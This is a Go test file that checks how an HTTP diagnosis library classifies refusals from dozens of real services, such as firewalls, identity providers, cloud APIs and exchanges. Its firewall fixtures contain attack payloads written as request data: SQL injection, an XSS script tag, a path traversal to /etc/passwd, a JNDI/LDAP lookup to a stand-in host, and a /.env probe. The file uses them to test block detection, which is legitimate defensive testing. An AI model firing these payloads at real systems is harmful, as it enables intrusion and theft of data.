package causes_test

import (
	"slices"
	"strings"
	"testing"

	"github.com/faultline-http/faultline"
	"github.com/faultline-http/faultline/diagnose"
)

// system is one refusal as a system in the field words it, with the place that it is about.
type system struct {
	who, call, fields, body string // fields: "Name: value" by the line
	status                  int
	answered, answer, cause string
	at                      string // as fullPlace writes it; "*" where several are as good
}

const jsonType = "Content-Type: application/json"

var systems = []system{
	// firewalls: the parameter, field or header that they objected to
	{"AWS WAF", "GET /search?q=%27%20UNION%20SELECT%201--&page=2", "", "", 403, "Server: awselb/2.0", "<html>\r\n<head><title>403 Forbidden</title></head>\r\n<body>\r\n<center><h1>403 Forbidden</h1></center>\r\n</body>\r\n</html>", "security.waf-block", "query:q"},
	{"Cloudflare", "POST /comments", jsonType, `{"author":"kim","text":"<script>alert(1)</script>"}`, 403, "Server: cloudflare\nCF-RAY: 8e4a-FRA", "<html><head><title>Attention Required! | Cloudflare</title></head><body><h1>Sorry, you have been blocked</h1></body></html>", "security.waf-block", "/text"},
	{"Imperva", "GET /files?name=../../etc/passwd", "", "", 403, "X-Iinfo: 7-1", `<html><body>Request unsuccessful. Incapsula incident ID: 1-2</body></html>`, "security.waf-block", "query:name"},
	{"F5", "GET /api/items", "X-Api-Version: ${jndi:ldap://x.example/a}", "", 200, "", `<html><head><title>Request Rejected</title></head><body>The requested URL was rejected. Please consult with your administrator.<br><br>Your support ID is: 123</body></html>`, "security.waf-block", "header:X-Api-Version"},
	{"Azure Application Gateway", "GET /.env", "", "", 403, "Server: Microsoft-Azure-Application-Gateway/v2", "<html>\r\n<head><title>403 Forbidden</title></head>\r\n<body>\r\n<center><h1>403 Forbidden</h1></center>\r\n<hr><center>Microsoft-Azure-Application-Gateway/v2</center>\r\n</body>\r\n</html>", "security.waf-block", "path"},
	// conflicts: the member that is taken, or the version that is old
	{"Keycloak", "POST /admin/realms/acme/users", jsonType, `{"username":"kim","enabled":true}`, 409, "", `{"errorMessage":"User exists with same username"}`, "state.conflict", "/username"},
	{"Okta", "POST /api/v1/users", jsonType, `{"profile":{"firstName":"Kim","login":"kim@example.com"}}`, 409, "", `{"message":"A user like this already exists"}`, "state.conflict", "/profile/login"},
	{"Pipedrive", "POST /v1/persons", jsonType, `{"visible_to":3,"email":"kim@example.com"}`, 409, "", `{"success":false,"error":"Person already exists"}`, "state.conflict", "/email"},
	{"CouchDB", "PUT /orders/7", jsonType, `{"total":3,"_rev":"1-967a"}`, 409, "", `{"error":"conflict","reason":"Document update conflict."}`, "state.conflict", "/_rev"},
	{"Contentful", "PUT /spaces/s/entries/e", jsonType + "\nX-Contentful-Version: 3", `{"fields":{}}`, 409, "", `{"sys":{"type":"Error","id":"VersionMismatch"},"message":"Version mismatch error. The version you specified was incorrect. This may be due to someone else editing the content."}`, "state.conflict", "header:X-Contentful-Version"},
	{"Rails", "PATCH /orders/7", jsonType, `{"order":{"note":"x","lock_version":4}}`, 409, "", `{"error":"Attempted to update a stale object: Order. The record was updated by another user."}`, "state.conflict", "/order/lock_version"},
	{"PyPI", "POST /legacy/", "", "", 400, "", "400 File already exists. See https://pypi.org/help/#file-name-reuse for more information.", "state.conflict", "*"},
	{"NuGet", "PUT /api/v2/package", "", "", 409, "", "A package with ID 'Acme.Ui' and version '1.2.0' already exists and cannot be modified.", "state.conflict", "*"},
	// things: what identifies them
	{"Kinesis", "POST /", "X-Amz-Target: Kinesis_20131202.PutRecord\nContent-Type: application/x-amz-json-1.1", `{"Data":"eA==","StreamName":"clicks"}`, 400, "x-amzn-RequestId: 1", `{"__type":"ResourceNotFoundException","message":"Stream clicks under account 1 not found."}`, "resource.not-found", "/StreamName"},
	{"Secrets Manager", "POST /", "X-Amz-Target: secretsmanager.GetSecretValue\nContent-Type: application/x-amz-json-1.1", `{"SecretId":"prod/db"}`, 400, "x-amzn-RequestId: 1", `{"__type":"ResourceNotFoundException","Message":"Secrets Manager can't find the specified secret."}`, "resource.not-found", "/SecretId"},
	{"PostgREST", "GET /customers?id=eq.4711", "Accept: application/vnd.pgrst.object+json", "", 406, "", `{"code":"PGRST116","details":"The result contains 0 rows","hint":null,"message":"JSON object requested, multiple (or no) rows returned"}`, "resource.not-found", "query:id"},
	{"Bitly", "GET /v3/expand?shortUrl=bit.ly/x", "", "", 404, "", `{"message":"link was not found"}`, "resource.not-found", "query:shortUrl"},
	// tokens refused with 422 or 400, and no word of a token
	{"Flask-JWT-Extended", "GET /me", "Authorization: Bearer " + anyJWT, "", 422, "Server: gunicorn", `{"msg":"Invalid issuer"}`, "auth.token-issuer", "header:Authorization"},
	{"PyJWT in Sanic", "GET /me", "Authorization: Bearer " + anyJWT, "", 400, "", `{"reasons":["Signature verification failed"],"exception":"InvalidToken"}`, "auth.token-signature", "header:Authorization"},
	{"Falcon", "GET /me", "Authorization: Bearer " + anyJWT, "", 422, "", `{"title":"Invalid audience"}`, "auth.token-audience", "header:Authorization"},
	{"Cognito", "POST /", "X-Amz-Target: AWSCognitoIdentityProviderService.GetUser\nContent-Type: application/x-amz-json-1.1", `{"AccessToken":"` + anyJWT + `"}`, 400, "x-amzn-RequestId: 1", `{"__type":"NotAuthorizedException","message":"Access Token has been revoked"}`, "auth.token-revoked", "/AccessToken"},
	// where the credential belongs
	{"an API with a header of its own", "GET /v1/account", "", "", 401, "", `{"message":"Please provide X-Sparkpost-Api-Key"}`, "auth.missing", "header:X-Sparkpost-Api-Key"},
	{"APISIX", "GET /orders", "", "", 401, "Server: APISIX/3.9.0", `{"message":"Missing API key in request"}`, "auth.missing", "header:Apikey"},
	{"an API with a usual header", "GET /v2/things", "", "", 401, "", `{"error":"Missing header: X-Auth-Token"}`, "auth.missing", "header:X-Auth-Token"},
	{"Meilisearch", "DELETE /indexes/books", "X-Meili-Api-Key: abc", "", 403, "", `{"message":"Not enough rights to delete the index"}`, "auth.forbidden-role", "header:X-Meili-Api-Key"},
	// exchanges
	{"Bybit", "POST /v5/order/create", "X-BAPI-API-KEY: k\nX-BAPI-SIGN: s\n" + jsonType, `{"symbol":"BTCUSDT","qty":"0"}`, 200, "", `{"retCode":10004,"retMsg":"error sign! origin_string[...]","result":{}}`, "auth.request-signature", "header:X-BAPI-SIGN"},
	{"OKX", "GET /api/v5/account/balance", "OK-ACCESS-KEY: k\nOK-ACCESS-SIGN: s", "", 401, "", `{"msg":"Invalid OK-ACCESS-KEY","code":"50111"}`, "auth.invalid-credentials", "header:OK-ACCESS-KEY"},
	{"KuCoin", "GET /api/v1/accounts", "KC-API-KEY: k\nKC-API-SIGN: s\nKC-API-TIMESTAMP: 1", "", 401, "", `{"code":"400002","msg":"KC-API-TIMESTAMP Invalid"}`, "auth.clock-skew", "header:KC-API-TIMESTAMP"},
	{"Binance", "GET /api/v3/order?symbol=BTCUSDT&orderId=1&timestamp=1&signature=x", "X-MBX-APIKEY: k", "", 400, "x-mbx-uuid: 1", `{"code":-2013,"msg":"Order does not exist."}`, "resource.not-found", "*"},
	{"Binance banned", "GET /api/v3/ping", "", "", 418, "Retry-After: 120", `{"code":-1003,"msg":"Way too much request weight used; IP banned until 1794302938000."}`, "limit.rate", "*"},
	// for where the call comes from
	{"OpenAI", "POST /v1/chat/completions", "Authorization: Bearer sk-x\n" + jsonType, `{"model":"m"}`, 403, "", `{"error":{"code":"unsupported_country_region_territory","message":"Country, region, or territory not supported","type":"request_forbidden"}}`, "auth.ip-blocked", "*"},
	{"Bitget", "GET /api/ping", "", "", 451, "", `{"msg":"Service unavailable from a restricted location"}`, "auth.ip-blocked", "*"},
	// platforms that have nothing of the name
	{"Vercel", "GET /api/health", "", "", 404, "Server: Vercel\nX-Vercel-Error: DEPLOYMENT_NOT_FOUND", "The deployment could not be found on Vercel.\n\nDEPLOYMENT_NOT_FOUND", "route.gateway-no-match", "*"},
	{"Heroku", "GET /", "", "", 404, "Server: Cowboy", `<!DOCTYPE html><html><head><title>No such app</title></head><body><iframe src="//www.herokucdn.com/error-pages/no-such-app.html"></iframe></body></html>`, "route.gateway-no-match", "*"},
	{"Railway", "GET /health", "", "", 404, "Server: railway-edge", `{"status":"error","code":404,"message":"Application not found"}`, "route.gateway-no-match", "*"},
	// versions that have ended, or were not asked for
	{"Twitter", "GET /1/users/show.json", "", "", 410, "", `{"errors":[{"message":"The Twitter REST API v1 is no longer active. Please migrate to API v1.1.","code":64}]}`, "route.api-version", "path"},
	{"an API that moved to version 2", "GET /v1/things", "", "", 410, "", `{"message":"API v1 is no longer available, please migrate to API v2"}`, "route.api-version", "path"},
	// another tenant
	{"Twitch", "GET /helix/users", "Authorization: Bearer abc\nClient-Id: other", "", 401, "", `{"error":"Unauthorized","status":401,"message":"Client ID and OAuth token do not match"}`, "auth.wrong-tenant", "header:Client-Id"},
	{"Xero", "GET /api.xro/2.0/Invoices", "Authorization: Bearer abc\nXero-Tenant-Id: t", "", 403, "", `{"Type":null,"Title":"Forbidden","Status":403,"Detail":"AuthenticationUnsuccessful: the xero-tenant-id belongs to another organisation"}`, "auth.wrong-tenant", "header:Xero-Tenant-Id"},
	// one call too large
	{"Elasticsearch", "POST /orders/_search", jsonType, `{"size":20000,"query":{"match_all":{}}}`, 400, "X-elastic-product: Elasticsearch", `{"error":{"root_cause":[{"type":"illegal_argument_exception","reason":"Result window is too large, from + size must be less than or equal to: [10000] but was [20000]."}],"type":"illegal_argument_exception","reason":"Result window is too large, from + size must be less than or equal to: [10000] but was [20000]."},"status":400}`, "limit.complexity", "/size"},
	{"graphql-java", "POST /graphql", jsonType, `{"query":"{a{b{c}}}"}`, 200, "", `{"errors":[{"message":"maximum query depth exceeded 17 > 15","extensions":{"classification":"ExecutionAborted"}}]}`, "limit.complexity", "/query"},
	{"graphql-armor", "POST /graphql", jsonType, `{"query":"{a{b{c}}}"}`, 400, "", `{"errors":[{"message":"Syntax Error: Query depth limit of 6 exceeded, found 8."}]}`, "limit.complexity", "/query"},
	// errors behind a success
	{"Lambda", "POST /2015-03-31/functions/f/invocations", jsonType, `{"a":1}`, 200, "X-Amz-Function-Error: Unhandled", `{"errorMessage":"'sku'","errorType":"KeyError","stackTrace":["  File \"/var/task/app.py\", line 4, in handler\n    return event['sku']\n"]}`, "server.exception", "*"},
	{"Nexmo", "POST /sms/json", "Content-Type: application/x-www-form-urlencoded", "api_key=a&api_secret=b&to=1", 200, "", `{"message-count":"1","messages":[{"status":"4","error-text":"Bad Credentials"}]}`, "auth.invalid-credentials", "*"},
	// a person has to act
	{"Cognito unconfirmed", "POST /", "X-Amz-Target: AWSCognitoIdentityProviderService.InitiateAuth", `{"AuthParameters":{"USERNAME":"k","PASSWORD":"x"}}`, 400, "x-amzn-RequestId: 1", `{"__type":"UserNotConfirmedException","message":"User is not confirmed."}`, "auth.interaction-required", "*"},
	// rules of the domain
	{"Mailgun", "POST /v3/x/messages", "Authorization: Basic YXBpOmtleQ==\nContent-Type: application/x-www-form-urlencoded", "to=a%40example.com&text=x", 403, "", `{"message":"Domain sandbox.mailgun.org is not allowed to send: Sandbox subdomains are for test purposes only. Please add your own domain or add the address to authorized recipients."}`, "state.business-rule", "*"},
	{"SES", "POST /v2/email/outbound-emails", jsonType, `{"FromEmailAddress":"a@example.com"}`, 400, "x-amzn-RequestId: 1\nx-amzn-ErrorType: MessageRejected", `{"message":"Email address is not verified. The following identities failed the check in region US-EAST-1: a@example.com"}`, "state.business-rule", "*"},
	// addresses and hosts hold full stops
	{"Snowflake", "POST /session/v1/login-request", jsonType, `{"data":{"LOGIN_NAME":"etl"}}`, 200, "", `{"data":null,"code":"390422","message":"Incoming request with IP/Token 203.0.113.7 is not allowed to access Snowflake.","success":false}`, "auth.ip-blocked", "*"},
	{"Azure SQL", "POST /query", jsonType + "\nAuthorization: Bearer abc", `{"q":"x"}`, 403, "", `{"error":"Client with IP address '203.0.113.7' is not allowed to access the server."}`, "auth.ip-blocked", "*"},
	{"MongoDB Atlas", "GET /api/atlas/v2/groups", "Authorization: Bearer abc", "", 403, "", `{"detail":"IP address 203.0.113.7 is not allowed to access this resource.","error":403,"errorCode":"IP_ADDRESS_NOT_ON_ACCESS_LIST","reason":"Forbidden"}`, "auth.ip-blocked", "*"},
	// a header beside the credential
	{"Twitch", "GET /helix/users", "Authorization: Bearer abc", "", 401, "", `{"error":"Unauthorized","status":401,"message":"Client-Id header required"}`, "header.missing", "header:Client-Id"},
	{"Xero", "GET /api.xro/2.0/Invoices", "Authorization: Bearer abc", "", 403, "", `{"Detail":"The Xero-Tenant-Id header is missing"}`, "header.missing", "header:Xero-Tenant-Id"},
	// servers and proxies that check answers
	{"FastAPI behind a handler", "GET /orders/7", "", "", 500, "", `{"error":"ResponseValidationError","detail":"1 validation errors: {'type': 'int_parsing', 'loc': ('response', 'total')}"}`, "server.response-invalid", "response body "},
	{"tRPC", "GET /trpc/order.byId", "", "", 500, "", `{"error":{"message":"Output validation failed","code":-32603,"data":{"code":"INTERNAL_SERVER_ERROR","httpStatus":500}}}`, "server.response-invalid", "response body "},
	{"graphql-js", "POST /graphql", jsonType, `{"query":"{order{total}}"}`, 200, "", `{"errors":[{"message":"Cannot return null for non-nullable field Order.total.","path":["order","total"]}],"data":null}`, "server.response-invalid", "*"},
	{"Prism", "GET /pets/1", "", "", 409, `sl-violations: [{"location":["response"],"severity":"Error","message":"Unable to match the returned status code with those defined in spec"}]`, `{"id":1}`, "server.contract-drift", "response header Sl-Violations"},
	// sign-in pages for a credential that is not accepted
	{"Azure DevOps", "GET /contoso/_apis/git/repositories", "Authorization: Basic OnBhdA==", "", 203, "", "<html><head><title>Azure DevOps Services | Sign In</title></head><body></body></html>", "auth.invalid-credentials", "header:Authorization"},
	// traces that name the argument
	{"Tornado", "GET /search?query=x", "", "", 400, "", "Traceback (most recent call last):\n  File \"/srv/app.py\", line 15, in get\n    self.get_argument(\"page\")\ntornado.web.MissingArgumentError: HTTP 400: Bad Request (Missing argument page)", "param.missing", "query:page"},
	// actions of SOAP
	{"ASMX", "POST /rates.asmx", "Content-Type: text/xml\nSOAPAction: \"urn:getRate\"", "<Envelope/>", 500, "", "<soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\"><soap:Body><soap:Fault><faultcode>soap:Client</faultcode><faultstring>System.Web.Services.Protocols.SoapException: Server did not recognize the value of HTTP Header SOAPAction: urn:getRate.</faultstring></soap:Fault></soap:Body></soap:Envelope>", "header.invalid", "header:SOAPAction"},
	{"CXF", "POST /rates", "Content-Type: text/xml\nSOAPAction: \"urn:getRate\"", "<Envelope/>", 500, "", "<soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\"><soap:Body><soap:Fault><faultcode>soap:Client</faultcode><faultstring>The given SOAPAction urn:getRate does not match an operation.</faultstring></soap:Fault></soap:Body></soap:Envelope>", "header.invalid", "header:SOAPAction"},
	{"Axum", "POST /todos", jsonType, `{"text":5}`, 422, "", "", "body.value", ""},
	// methods
	{"CloudFront", "DELETE /api/x", "", "", 403, "Server: CloudFront\nX-Amz-Cf-Id: 1", `<HTML><H2>The request could not be satisfied.</H2>This distribution is not configured to allow the HTTP request method that was used for this request. The distribution supports only cachable requests.</HTML>`, "route.method-not-allowed", "method"},
	{"Tomcat servlet", "POST /report", "", "", 405, "", `<html><body><h1>HTTP Status 405</h1>HTTP method POST is not supported by this URL</body></html>`, "route.method-not-allowed", "method"},
}

// anyJWT is a token without times, issuer and audience of its own.
const anyJWT = "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiI3In0.JmdYHUXpYnnGQ6b8cKJt0bnmDdZ2xzMPHY0AOYmVK1k"

func (s *system) exchange() *faultline.Exchange {
	method, target, _ := strings.Cut(s.call, " ")
	return &faultline.Exchange{
		Request:  faultline.Request{Method: method, Scheme: "https", Host: "api.example.com", Target: target, Proto: "HTTP/1.1", Header: fieldLines(s.fields), Body: faultline.NewBody([]byte(s.body))},
		Response: &faultline.Response{Status: s.status, Header: append(fieldLines(s.answered), faultline.Field{Name: "Content-Type", Value: typeOf(s.answer)}), Body: faultline.NewBody([]byte(s.answer))},
	}
}

func fieldLines(text string) faultline.Header {
	var out faultline.Header
	for line := range strings.Lines(text) {
		name, value, _ := strings.Cut(strings.TrimSpace(line), ": ")
		out = append(out, faultline.Field{Name: name, Value: value})
	}
	return out
}

func typeOf(body string) string {
	switch {
	case strings.HasPrefix(body, "<"):
		return "text/html"
	case strings.HasPrefix(body, "{"):
		return "application/json"
	}
	return "text/plain"
}

func fullPlace(at faultline.Location) string {
	if at.Side == faultline.ResponseSide {
		return "response " + string(at.In) + " " + at.Pointer + at.Name
	}
	switch at.In {
	case faultline.InBody:
		return at.Pointer
	case faultline.InPath:
		return "path"
	case faultline.InTarget:
		return at.Name
	}
	return string(at.In) + ":" + at.Name
}

// TestSystems is how systems in the field refuse, each with the part of the request that is to be mended.
func TestSystems(t *testing.T) {
	t.Parallel()
	engine := diagnose.New()
	for _, list := range [][]system{systems, selfHosted, hostedServices} {
		for i := range list {
			s := &list[i]
			d := engine.Diagnose(s.exchange())
			first, _ := d.Primary()
			if !oneOf(s.cause, string(first.Cause.Slug)) {
				t.Errorf("%s: %s, %d %.120s\nis %q (%s), want %s; all: %s", s.who, s.call, s.status, s.answer, first.Cause.Slug, first.Message, s.cause, slugs(d))
				continue
			}
			if got := fullPlace(first.At); !oneOf(strings.ToLower(s.at), strings.ToLower(got)) {
				t.Errorf("%s: %s, %d %.120s\n%s is at %q, want %q", s.who, s.call, s.status, s.answer, s.cause, got, s.at)
			}
		}
	}
}

// oneOf reports whether a word is one of those between bars, or whether any will do.
func oneOf(words, word string) bool {
	return words == "*" || slices.Contains(strings.Split(words, "|"), word)
}
